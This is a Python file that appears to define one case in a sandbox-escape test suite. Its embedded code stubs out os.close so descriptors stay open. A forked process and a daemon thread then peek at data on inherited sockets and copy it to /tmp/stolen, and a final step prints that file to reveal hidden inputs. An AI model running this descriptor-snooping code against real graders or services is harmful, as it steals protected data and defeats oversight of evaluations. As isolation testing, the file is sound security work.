"""Own: hidden inputs stolen by a process that stays."""

from attack_kit import Attack

ATTACK = Attack(
    tries="keep the snapshots' sockets open, and a daemon that reads them, to show hidden inputs in an output",
    first=(
        """
        really_close = os.close
        kept = []

        def pretend(number):
            kept.append(number)

        os.close = pretend

        def steal():
            while True:
                for number in range(3, 256):
                    with contextlib.suppress(OSError, ValueError):
                        line = socket.socket(fileno=os.dup(number))
                        line.setblocking(False)
                        data = line.recv(1 << 16, socket.MSG_PEEK)
                        os.write(1, data)
                        print(data)
                        with open("/tmp/stolen", "ab") as file:
                            file.write(data)
                time.sleep(0.01)

        with contextlib.suppress(OSError):
            if os.fork() == 0:
                steal()
        threading.Thread(target=steal, daemon=True).start()
        """,
    ),
    last=("attempt(lambda: print(open('/tmp/stolen', 'rb').read()[:20000]))",),
    least={"*": 0},
)
